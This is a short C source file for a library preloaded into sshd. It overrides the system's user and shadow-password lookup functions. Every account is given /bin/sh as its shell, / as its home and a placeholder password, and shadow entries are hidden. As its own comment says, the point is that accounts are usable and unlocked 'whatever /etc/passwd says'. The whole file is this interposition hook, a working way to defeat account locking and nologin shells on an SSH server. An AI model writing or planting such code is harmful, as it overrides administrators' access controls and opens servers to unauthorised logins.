/* Loaded before sshd's libraries: users have a login shell and a home, and are not locked, whatever /etc/passwd says. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <pwd.h>
#include <shadow.h>
#include <stddef.h>

static struct passwd *opened(struct passwd *user) {
    if (user) user->pw_shell = "/bin/sh", user->pw_dir = "/", user->pw_passwd = "x";
    return user;
}

struct passwd *getpwnam(const char *name) {
    return opened(((struct passwd * (*)(const char *)) dlsym(RTLD_NEXT, "getpwnam"))(name));
}

struct passwd *getpwuid(uid_t uid) {
    return opened(((struct passwd * (*)(uid_t)) dlsym(RTLD_NEXT, "getpwuid"))(uid));
}

struct spwd *getspnam(const char *name) {
    (void)name;
    return NULL;
}
